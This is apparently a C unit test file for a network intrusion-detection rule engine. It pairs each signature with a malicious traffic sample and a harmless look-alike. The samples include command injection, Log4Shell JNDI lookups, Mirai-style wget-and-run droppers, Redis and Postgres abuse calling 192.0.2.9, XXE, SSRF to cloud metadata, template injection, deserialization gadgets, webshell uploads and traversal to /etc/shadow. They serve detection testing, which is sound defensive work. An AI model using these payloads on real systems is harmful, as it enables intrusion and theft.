    {9000449, NULL, TS, 21, 0, {{"", "SITE EXEC /bin/sh -c id|0d 0a|", "SITE CHMOD 644 a|0d 0a|"}}, NULL, 0, 0},
    {9000450, NULL, TS, 21, 0, {{"", "USER letmein:)|0d 0a|", "USER taro|0d 0a|"}}, NULL, 0, 0},
    {9000501, "http", TS, 80, 0, {{"http.uri", "/ping.cgi?host=127.0.0.1;cat${IFS}/etc/hosts", "/search?q=rock;paper|7c|cat food&page=2"}}, NULL, 0, 0},
    {9000501, "http", TS, 80, 0, {{"http.uri", "/x?c=1|7c|nslookup+abc.example.org", "/title?t=Ball games|7c|ping pong"}}, NULL, 0, 0},
    {9000501, "http", TS, 80, 0, {{"http.uri", "/x?c=1;sleep+10", "/x?c=1;sleep=10"}}, NULL, 0, 0},
    {9000502, "http", TS, 80, 0, {{"http.uri", "/run.asp?c=a&cmd.exe+/c+dir", "/run.asp?c=a&cmd=dir"}}, NULL, 0, 0},
    {9000503, "http", TS, 80, 0, {{"http.header", "Host: a|0d 0a|X-Forwarded-For: ;wget http://192.0.2.9/a|0d 0a|", "Host: a|0d 0a|Referer: http://a/?t=how;wget works|0d 0a|"}}, NULL, 0, 0},
    {9000504, "http", TS, 80, 0, {{"http.request_body", "ip=1.1.1.1%3Bping+-c+4+192.0.2.9", "text=first; ping me when you are there"}}, NULL, 0, 0},
    {9000505, "http", TS, 80, 0, {{"http.uri", "/x?file=../web.config", "/docs/web.config.html"}}, NULL, 0, 0},
    {9000505, "http", TS, 80, 0, {{"http.uri", "/x?p=../../../proc/self/environ", "/css/../img/a.png"}}, NULL, 0, 0},
    {9000506, "http", TS, 80, 0, {{"http.uri.raw", "/cgi-bin/%%32%65%%32%65/etc/hosts", "/sale/100%25-off"}}, NULL, 0, 0},
    {9000506, "http", TS, 80, 0, {{"http.uri.raw", "/..;/manager/html", "/a;v=1/b"}}, NULL, 0, 0},
    {9000507, "http", TS, 80, 0, {{"http.request_body", "file=..%2F..%2F..%2Fetc%2Fshadow", "file=../../img/a.png"}}, NULL, 0, 0},
    {9000508, "http", TS, 80, 0, {{"http.uri", "/i?id=1;exec+xp_cmdshell+'whoami'", "/i?topic=into+the+outfield"}}, NULL, 0, 0},
    {9000509, "http", TS, 80, 0, {{"http.request_body", "{|22|id|22|:|22|1' OR '1'='1|22|}", "{|22|q|22|:|22|this 'or' that = fine|22|}"}}, NULL, 0, 0},
    {9000510, "http", TS, 80, 0, {{"http.uri", "/i?id=1'+order+by+10--+-", "/i?sort=order by 10"}}, NULL, 0, 0},
    {9000511, "http", TS, 80, 0, {{"http.header", "X-A: ${${env:B:-j}ndi${env:B:-:}ldap://192.0.2.9/a}|0d 0a|", "X-A: ${id:${name}}|0d 0a|"}}, NULL, 0, 0},
    {9000512, "http", TS, 80, 0, {{"http.uri", "/?x=${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://192.0.2.9}", "/?x=${name}:${port}"}}, NULL, 0, 0},
    {9000513, "http", TS, 80, 0, {{"http.request_body", "u=%24%7B%24%7Bsys%3Ax%3A-j%7Dndi%3Aldaps%3A//192.0.2.9%7D", "code=const a = `${b ? `${c}` : d}`"}}, NULL, 0, 0},
    {9000514, "http", TS, 80, 0, {{"http.uri.raw", "/?x=%2524%257Bjndi%253Aldap%253A%252F%252F192.0.2.9%257D", "/?x=%24jndi"}}, NULL, 0, 0},
    {9000515, "http", TS, 80, 0, {{"http.uri", "/?o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "/?o=prO0ABout"}}, NULL, 0, 0},
    {9000516, "http", TS, 80, 0, {{"http.cookie", "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "rememberMe=QUJDREVGR0hJSktMTU5P"}}, NULL, 0, 0},
    {9000517, "http", TS, 80, 0, {{"http.request_body", "|ac ed 00 05|sr|00 0c|java.net.URL|96|", "|ac ed 00 05|sr|00 11|java.util.HashMap"}}, NULL, 0, 0},
    {9000518, "http", TS, 80, 0, {{"http.request_body", "{|22|@type|22|:|22|com.sun.rowset.JdbcRowSetImpl|22|}", "{|22|@type|22|:|22|Person|22|,|22|name|22|:|22|Kei|22|}"}}, NULL, 0, 0},
    {9000518, "http", TS, 80, 0, {{"http.request_body", "[|22|ch.qos.logback.core.db.JNDIConnectionSource|22|,{|22|a|22|:1}]", "[|22|com.sun is up|22|,{|22|a|22|:1}]"}}, NULL, 0, 0},
    {9000519, "http", TS, 80, 0, {{"http.request_body", "data=O%3A8%3A%22Handlers%22%3A1%3A%7Bs%3A3%3A%22cmd%22%3B", "note=O:8 is oxygen"}}, NULL, 0, 0},
    {9000520, "http", TS, 80, 0, {{"http.cookie", "u=O%3A4%3A%22User%22%3A1%3A%7Bs%3A4", "u=a%3A1%3A%7Bs%3A4"}}, NULL, 0, 0},
    {9000521, "http", TS, 80, 0, {{"http.cookie", "session=Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu", "session=Y29va2llIG9mIGEgdXNlcg=="}}, NULL, 0, 0},
    {9000522, "http", TS, 80, 0, {{"http.request_body", "__VIEWSTATE=%2FwEyxBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAA", "__VIEWSTATE=%2FwEPDwUKLTQ3MzM0MjM4Mg9kFgI%3D"}}, NULL, 0, 0},
    {9000523, "http", TS, 80, 0, {{"http.uri", "/x?name={{7*7}}", "/x?name={{name}}"}}, NULL, 0, 0},
    {9000524, "http", TS, 80, 0, {{"http.uri", "/x?n={{config.__class__.__init__.__globals__['os']}}", "/docs/python/__class__"}}, NULL, 0, 0},
    {9000525, "http", TS, 80, 0, {{"http.request_body", "t=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D", "t={{ title }} and a child_process"}}, NULL, 0, 0},
    {9000526, "http", TS, 80, 0, {{"http.request_body", "<!DOCTYPE r [<!ENTITY % d SYSTEM |22|http://192.0.2.9/e.dtd|22|> %d;]>", "<!DOCTYPE r [<!ENTITY name |22|http://example.com|22|>]>"}}, NULL, 0, 0},
    {9000527, "http", TS, 80, 0, {{"http.uri", "/fetch?url=http://169.254.169.254/latest/meta-data/", "/fetch?url=http://www.example.com/169.254"}}, NULL, 0, 0},
    {9000528, "http", TS, 80, 0, {{"http.uri", "/i.php?page=http://192.0.2.9/s.txt", "/thumb.php?src=http://cdn.example/a.jpg"}}, NULL, 0, 0},
    {9000529, "http", TS, 80, 0, {{"http.uri", "/?q=<img src=x onerror=alert(1)>", "/?q=<b>one</b>"}}, NULL, 0, 0},
    {9000530, "http", TS, 80, 0, {{"http.request_body", "<methodName>system.multicall</methodName><value>wp.getUsersBlogs</value>", "<methodName>wp.getUsersBlogs</methodName>"}}, NULL, 0, 0},
    {9000531, "http", TS, 80, 0, {{"http.method", "PUT", NULL}, {"http.uri", "/up.aspx", "/files/report.docx"}}, NULL, 0, 0},
    {9000532, "http", TS, 80, 0, {{"http.request_body", "GIF89a<?=`$_GET[0]`?>", "<?php echo trim($_GET['name']); ?>"}}, NULL, 0, 0},
    {9000533, "http", TS, 80, 0, {{"http.uri", "/t.aspx?e=Response.Write(new ActiveXObject(|22|WScript.Shell|22|).exec(|22|whoami|22|))", "/t.aspx?e=shell sort"}}, NULL, 0, 0},
    {9000534, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/up/s.php", NULL}, {"http.request_body", "cmd=cat+%2Fetc%2Fpasswd", "cmd=catalog&page=2"}}, NULL, 0, 0},
    {9000535, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/shell.php", NULL}, {"http.request_body", A64 A64 A64, "text=" A64 A64}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
    {9000536, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/g.jsp", NULL}, {"http.cookie", "JSESSIONID=1A;", "JSESSIONID=1A"}, {"http.request_body", "pass=" A64 A64 A64 "%3D", NULL}}, NULL, 0, 0},
    {9000537, "http", TC, 80, 0, {{"http.response_body", "|0d 0a|Windows IP Configuration|0d 0a 0d 0a|", "<h1>Windows IP Configuration</h1>"}}, NULL, 0, 0},
    {9000601, "icmp", TS, 0, 0, {{"", "uid=0(root) gid=0(root)|0a|", "abcdefghijklmnopqrstuvwabcdefghi"}}, NULL, 0, 0},
    {9000602, NULL, TS, 4545, 0, {{"", "nt authority|5c|system|0d 0a|", "the account nt authority|5c|system|0d 0a|"}}, NULL, 0, 0},
    {9000603, "http", TS, 80, 0, {{"http.uri", "/jquery-3.3.1.min.js", NULL}, {"http.cookie", "__cfduid=" A64 A64, "__cfduid=d41d8cd98f00b204e9800998ecf8427e"}, {"http.host", "cdn.example", NULL}}, NULL, 0, 0},
    {9000604, NULL, TS, 23, 0, {{"", "/bin/busybox MIRAI|0d 0a|", "/bin/busybox ls|0d 0a|"}}, NULL, 0, 0},
    {9000605, NULL, TS, 23, 0, {{"", "cd /tmp || cd /var/run; wget http://192.0.2.9/b.sh; chmod 777 b.sh; sh b.sh|0d 0a|", "cd /tmp; wget http://example.com/a.tgz|0d 0a|"}}, NULL, 0, 0},
    {9000606, NULL, TS, 5555, 0, {{"", "OPEN|01 00 00 00 00 00 00 00 20 00 00 00 00 00 00 00 b0 af ba b1|shell:cd /data/local/tmp; wget http://192.0.2.9/a", "OPEN|01 00 00 00 00 00 00 00 20 00 00 00 00 00 00 00 b0 af ba b1|shell:getprop"}}, NULL, 0, 0},
    {9000607, NULL, TS, 6379, 0, {{"", "*3|0d 0a|$7|0d 0a|SLAVEOF|0d 0a|$10|0d 0a|192.0.2.99|0d 0a|$4|0d 0a|6666|0d 0a|", "*3|0d 0a|$7|0d 0a|SLAVEOF|0d 0a|$2|0d 0a|NO|0d 0a|$3|0d 0a|ONE|0d 0a|"}}, NULL, 0, 0},
    {9000608, NULL, TS, 25, 0, {{"", "RCPT TO:<${run{|5c|x2Fbin|5c|x2Fsh}}@localhost>|0d 0a|", "Subject: what ${run{ means|0d 0a|"}}, NULL, 0, 0},
    {9000609, NULL, TS, 4545, 0, {{"", "|0d 0a|Windows IP Configuration|0d 0a 0d 0a|", "How to read the Windows IP Configuration|0d 0a|"}}, NULL, 0, 0},
    {9000610, NULL, TS, 1433, 0, {{"", "E|00|X|00|E|00|C|00 20 00|x|00|p|00|_|00|c|00|m|00|d|00|s|00|h|00|e|00|l|00|l|00 20 00|", "E|00|X|00|E|00|C|00 20 00|s|00|p|00|_|00|w|00|h|00|o|00|"}}, NULL, 0, 0},
    {9000611, NULL, TS, 5432, 0, {{"", "Q|00 00 00 40|COPY t FROM PROGRAM 'curl 192.0.2.9'|00|", "Q|00 00 00 40|SELECT program FROM tv |00|"}}, NULL, 0, 0},
    {9000612, NULL, TS, 1099, 0, {{"", "P|ac ed 00 05|w|22|sr|00|.sun.reflect.annotation.AnnotationInvocationHandler", "P|ac ed 00 05|w|22|sr|00|.java.util.ArrayList"}}, NULL, 0, 0},
    {9000613, NULL, TS, 8000, 0, {{"", "JDWP-Handshake", "GET /JDWP-Handshake"}}, NULL, 0, 0},
    {9000614, NULL, TS, 8009, 0, {{"", "|12 34 01 00 02 02|HTTP/1.1|0a 00 1f|javax.servlet.include.path_info|00 00 10|/WEB-INF/web.xml", "|12 34 01 00 02 02|HTTP/1.1|00 00 01|/index.jsp"}}, NULL, 0, 0},
    {9000615, NULL, TS, 3389, 20, {{"", "|03 00 00 2b 26 e0 00 00 00 00 00|Cookie: mstshash=hello|0d 0a|", "|03 00 00 13 0e e0 00 00 00 00 00 01 00 08 00 03 00 00 00|"}}, NULL, 0, 0},
    {9000616, NULL, TC, 3306, 15, {{"", "|48 00 00 02 ff 15 04|#28000Access denied for user 'root'@'192.0.2.9'", "|07 00 00 02 00 00 00 02 00 00 00|"}}, NULL, 0, 0},
    {9000617, NULL, TC, 143, 12, {{"", "a NO [AUTHENTICATIONFAILED] Authentication failed.|0d 0a|", "a OK [CAPABILITY IMAP4rev1] Logged in|0d 0a|"}}, NULL, 0, 0},
    {9000618, "http", TS, 80, 25, {{"http.method", "POST", NULL}, {"http.uri", "/wp-login.php", "/wp-admin/admin-ajax.php"}}, NULL, 0, 0},
    {9000619, "http", TS, 80, 0, {{"http.user_agent", "Microsoft-CryptoAPI/10.0", NULL}, {"http.uri", "/a.exe", "/pki/root.crl"}}, NULL, 0, 0},
    {9000620, "http", TC, 80, 0, {{"file.data", "L|00 00 00 01 14 02 00 00 00 00 00 c0 00 00 00 00 00 00|F|9b 00 08 00|", "L|00 00 00 02 14 02 00|"}}, NULL, 0, 0},
    {9000701, "http", TS, 443, 0, {{"http.uri.raw", "/api/v1/totp/user-backup-code/../../license/keys-status/;id", "/api/v1/totp/user-backup-code"}}, NULL, 0, 0},
    {9000702, "http", TS, 443, 0, {{"http.uri", "/dana-ws/saml20.ws", NULL}, {"http.request_body", "<ds:RetrievalMethod URI=\"http://127.0.0.1:8090/api\"/>", "<saml:AuthnRequest/>"}}, NULL, 0, 0},
    {9000703, "http", TS, 443, 0, {{"http.uri", "/api/v2/cmdb/system/admin/admin", NULL}, {"http.user_agent", "Report Runner", NULL}, {"http.header", "Forwarded: for=\"[127.0.0.1]:8888\"|0d 0a|", "X-Trace: 1|0d 0a|"}}, NULL, 0, 0},
    {9000704, "http", TS, 443, 0, {{"http.cookie", "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/`id`", "SESSID=0123456789abcdef"}}, NULL, 0, 0},
    {9000705, "http", TS, 443, 0, {{"http.uri", "/oauth/idp/.well-known/openid-configuration", NULL}, {"http.host.raw", A64 A64 A64 A64 A64, "gw.example.com"}}, NULL, 0, 0},
    {9000706, "http", TS, 443, 0, {{"http.uri", "/moveitisapi/moveitisapi.dll?action=m2", "/human.aspx"}}, NULL, 0, 0},
    {9000707, "http", TS, 80, 0, {{"http.uri", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", "/server-info.action"}}, NULL, 0, 0},
    {9000708, "http", TS, 80, 0, {{"http.uri.raw", "/SetupWizard.aspx/a", "/SetupWizard.aspx"}}, NULL, 0, 0},
    {9000709, "http", TS, 80, 0, {{"http.uri.raw", "/hax?jsp=/app/rest/users;.jsp", "/app/rest/users"}}, NULL, 0, 0},
    {9000710, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", NULL}, {"http.referer", "/_layouts/SignOut.aspx", "/sites/a/page.aspx"}}, NULL, 0, 0},
    {9000711, "http", TS, 80, 0, {{"http.header", "Next-Action: x|0d 0a|", NULL}, {"http.request_body", "{\"then\":\"$1:__proto__:then\",\"_response\":{\"_prefix\":\"process.mainModule.require('child_process').execSync('id')\"}}", "[\"$undefined\",\"name\"]"}}, NULL, 0, 0},
    {9000712, NULL, TS, 61616, 0, {{"", "|00 00 00 78 1f 00 00 00 00 00 00 00 00 00 01 01 00 42|org.springframework.context.support.ClassPathXmlApplicationContext|01 00 1a|http://192.0.2.9/poc.xml", "|00 00 00 78 1f|org.apache.activemq.command.Message"}}, NULL, 0, 0},
    {9000713, "http", TS, 80, 0, {{"http.uri", "/invoker/JMXInvokerServlet", "/invoices/list"}, {"http.method", "POST", NULL}}, NULL, 0, 0},
    {9000714, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "Content-Disposition: form-data; name=\"f\"; filename=\"../../../webapps/ROOT/a.jsp\"|0d 0a|", "Content-Disposition: form-data; name=\"f\"; filename=\"plan.pdf\"|0d 0a|"}}, NULL, 0, 0},
    {9000715, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/adfs/services/policystoretransfer", "/adfs/ls/"}}, NULL, 0, 0},
    {9000716, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "76f03f96-cdfd-44fc-a22c-64950a001209", 39, 3},
    {9000717, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "a8e0653c-2744-4389-a61d-7373df8b2292", 8, 1},
    {9000718, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "x", NULL}}, "df1941c5-fe89-4e79-bf10-463657acf44d", 0, 20},
    {9000719, "dcerpc", TS, 49155, 0, {{"dcerpc.stub_data", "|5c 00|?|00|?|00 5c 00|U|00|N|00|C|00 5c 00|1|00|", "|5c 00|?|00|?|00 5c 00|C|00|:|00 5c 00|"}}, "82273fdc-e32a-18c3-3f78-827929dc23ea", 9, 9},
    {9000720, NULL, TC, 53, 0, {{"", "|ff f0 12 34 84 00 00 01 00 01 00 00 00 00 01|a|07|example|00 00 18 00 01 c0 0c 00 18 00 01 00 00 00 3c ff c0|", "|00 50 12 34 84 00 00 01 00 01 00 00 00 00 01|a|07|example|00 00 18 00 01 c0 0c 00 18 00 01 00 00 00 3c 00 20|"}}, NULL, 0, 0},
    {9000721, NULL, TS, 25, 10, {{"", "VRFY root|0d 0a|", "NOOP now|0d 0a|"}}, NULL, 0, 0},
    {9000722, "http", TS, 80, 0, {{"http.uri", "/tor/status-vote/current/consensus-microdesc/0232AF.z", "/tour/status"}}, NULL, 0, 0},
    {9000723, "http", TC, 80, 0, {{"http.header", "Content-Disposition: attachment; filename=\"invoice.iso\"|0d 0a|", "Content-Disposition: attachment; filename=\"invoice.pdf\"|0d 0a|"}, {"file.data", "x", NULL}}, NULL, 0, 0},
    {9000724, "smtp", TS, 25, 0, {{"file.name", "invoice.iso", "invoice.pdf"}}, NULL, 0, 0},
    {9000725, "smtp", TS, 25, 0, {{"file.name", "invoice.pdf.exe", "report.final.pdf"}}, NULL, 0, 0},
    {9000726, "http", TS, 80, 0, {{"http.user_agent", "Microsoft BITS/7.8", NULL}, {"http.host", "198.51.100.7", "update.example.com"}, {"http.uri", "/a.exe", NULL}}, NULL, 0, 0},
    {9000727, "http", TS, 80, 0, {{"http.header", "X-CMD: FORWARD|0d 0a|", "X-Cmd-Id: 7|0d 0a|"}}, NULL, 0, 0},
};

struct world {
    struct mmr_rules *set;
    struct mmr_rules_engine *engine;
    uint32_t want;
    unsigned hits, errors;
};

static size_t decode(const char *text, uint8_t *out)
{
    size_t n = 0;
    for (bool is_hex = false; *text && n < TEXT_MAX; text++) {
        if (*text == '|') {
            is_hex = !is_hex;
        } else if (!is_hex) {
            out[n++] = (uint8_t)*text;
        } else if (*text != ' ') {
            char pair[3] = {text[0], text[1], 0};
            out[n++] = (uint8_t)strtoul(pair, NULL, 16);
            text++;
        }
    }
    return n;
}

static void on_hit(void *ctx, const struct mmr_rule_hit *hit)
{
    struct world *w = ctx;
    w->hits += hit->rule->sid == w->want;
}

static void on_diag(void *ctx, const struct mmr_rule_diag *d)
{
    struct world *w = ctx;
    if (!d->is_ok) {
        w->errors++;
        print_error("%s:%u sid %u: %s\n", d->file, d->line, d->sid, d->reason);
    }
}

static int setup(void **state)
{
    struct mmr_error err = {.struct_size = sizeof err};
    struct world *w = calloc(1, sizeof *w);
    struct mmr_rules_options opt = {.hit = on_hit, .ctx = w};
    assert_non_null(w);
    assert_int_equal(mmr_rules_new(NULL, &w->set, &err), 0);
    for (size_t i = 0; signature_pack[i].name; i++)
        assert_int_equal(mmr_rules_add_text(w->set, signature_pack[i].name, (const char *)signature_pack[i].data,
                                            signature_pack[i].len, on_diag, w, &err), 0);
    assert_int_equal(mmr_rules_compile(w->set, &err), 0);
    assert_int_equal(mmr_rules_engine_new(w->set, &opt, &w->engine, &err), 0);
    *state = w;
    return 0;
}

static int teardown(void **state)
{
    struct world *w = *state;
    mmr_rules_engine_free(w->engine);
    mmr_rules_free(w->set);
    free(w);
    return 0;
}

static void set_uuid(const char *text, uint8_t out[16])
{
    static const uint8_t place[16] = {3, 2, 1, 0, 5, 4, 7, 6, 8, 9, 10, 11, 12, 13, 14, 15};
    unsigned n = 0;
    for (; *text && n < 32; text++)
        if (*text != '-') {
            char one[2] = {*text, 0};
            uint8_t d = (uint8_t)strtoul(one, NULL, 16);
            out[place[n / 2]] = (uint8_t)(n % 2 ? out[place[n / 2]] | d : d << 4);
            n++;
        }
}

static bool is_datagram(const struct row *r)
{
    return strcmp(r->app, "udp") == 0 || strcmp(r->app, "icmp") == 0;
}

/* Play one row as traffic of a flow of its own; how often its rule alerted. */
static unsigned play(struct world *w, const struct row *r, bool is_yes, uint64_t id)
{
    static uint8_t bytes[BUFS][TEXT_MAX];
    struct mmr_flow flow = {.struct_size = sizeof flow, .ip_version = 4, .proto = IPPROTO_TCP, .id = id,
                            .tcp_state = MMR_TCP_ESTABLISHED, .client_port = 50000, .server_port = r->port,
                            .packets = {2, 2}, .app = r->app && !is_datagram(r) ? r->app : NULL};
    struct mmr_frame frame = {.struct_size = sizeof frame, .time_ns = (int64_t)id * 1000000000000, .index = id};
    struct mmr_packet p = {.struct_size = sizeof p, .frame = &frame, .flow = &flow, .dir = r->dir, .ip_version = 4,
                           .proto = IPPROTO_TCP};
    struct mmr_buffer bufs[BUFS];
    struct mmr_dcerpc_call call = {.struct_size = sizeof call, .is_request = 1, .opnum = is_yes ? r->opnum : r->opnum_no,
                                   .first_frag = 1, .last_frag = 1, .little_endian = 1};
    size_t n = 0;
    flow.client = (struct mmr_addr){{[10] = 0xff, 0xff, 192, 0, 2, (uint8_t)(1 + id % 200)}};
    flow.server = (struct mmr_addr){{[10] = 0xff, 0xff, 198, 51, 100, 5}};
    p.src = r->dir == TS ? flow.client : flow.server;
    p.dst = r->dir == TS ? flow.server : flow.client;
    p.src_port = r->dir == TS ? flow.client_port : flow.server_port;
    p.dst_port = r->dir == TS ? flow.server_port : flow.client_port;
    for (; n < BUFS && r->part[n].name; n++) {
        const char *text = is_yes || !r->part[n].no ? r->part[n].yes : r->part[n].no;
        bufs[n] = (struct mmr_buffer){r->part[n].name, bytes[n], decode(text, bytes[n])};
    }
    w->want = r->sid;
    w->hits = 0;
    for (unsigned i = 0; i < (r->times ? r->times : 1); i++) {
        frame.index++;
        if (!r->app && i) { /* what is counted comes in connections of its own */
            mmr_rules_flow_end(w->engine, &flow);
            flow.id += 1000000;
        }
        if (!r->app) {
            struct mmr_chunk c = {.struct_size = sizeof c, .flow = &flow, .packet = &p, .data = bytes[0],
                                  .len = (uint32_t)bufs[0].len, .dir = r->dir};
            p.payload = bytes[0];
            p.payload_len = c.len;
            mmr_rules_packet(w->engine, &p);
            mmr_rules_chunk(w->engine, &c);
        } else if (is_datagram(r)) {
            flow.proto = p.proto = strcmp(r->app, "udp") == 0 ? IPPROTO_UDP : IPPROTO_ICMP;
            flow.tcp_state = MMR_TCP_NONE;
            p.payload = bytes[0];
            p.payload_len = (uint32_t)bufs[0].len;
            mmr_rules_packet(w->engine, &p);
        } else {
            struct mmr_tx tx = {.struct_size = sizeof tx, .dir = r->dir, .flow = &flow, .packet = &p, .app = r->app,
                                .id = i, .buffers = bufs, .n = n};
            if (r->uuid) {
                set_uuid(r->uuid, call.iface);
                tx.detail = &call;
                flow.app = "smb";
            }
            mmr_rules_tx(w->engine, &tx);
        }
    }
    mmr_rules_flow_end(w->engine, &flow);
    return w->hits;
}

static void every_rule_finds_its_own_and_spares_the_honest(void **state)
{
    struct world *w = *state;
    unsigned wrong = 0;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        unsigned yes = play(w, &rows[i], true, 2 * i + 1);
        unsigned no = play(w, &rows[i], false, 2 * i + 2);
        if (yes != 1 || no != 0) {
            print_error("sid %u: alerted %u times on the bad one (want 1), %u on the honest one (want 0)\n", rows[i].sid, yes, no);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static void every_rule_loads_and_has_a_row_and_meaning(void **state)
{
    struct world *w = *state;
    assert_int_equal(w->errors, 0);
    assert_true(mmr_rules_count(w->set) > 60);
    for (size_t i = 0; i < mmr_rules_count(w->set); i++) {
        const struct mmr_rule_info *info = mmr_rules_info(w->set, i);
        struct finding_facts f;
        char text[32];
        bool has_row = false;
        for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++)
            has_row |= rows[k].sid == info->sid;
        if (!has_row)
            fail_msg("sid %u has no row here", info->sid);
        finding_facts_of(info, NULL, &f);
        if (!mmr_rule_metadata(info, "mamori_potential", 0, text, sizeof text) || strcmp(text, f.potential) != 0)
            fail_msg("sid %u: potential is not one of ours", info->sid);
        if (!f.n_attack)
            fail_msg("sid %u names no ATT&CK technique", info->sid);
        if (!f.phase && strcmp(f.potential, "info") != 0)
            fail_msg("sid %u: a threat without a phase", info->sid);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(every_rule_loads_and_has_a_row_and_meaning, setup, teardown),
        cmocka_unit_test_setup_teardown(every_rule_finds_its_own_and_spares_the_honest, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
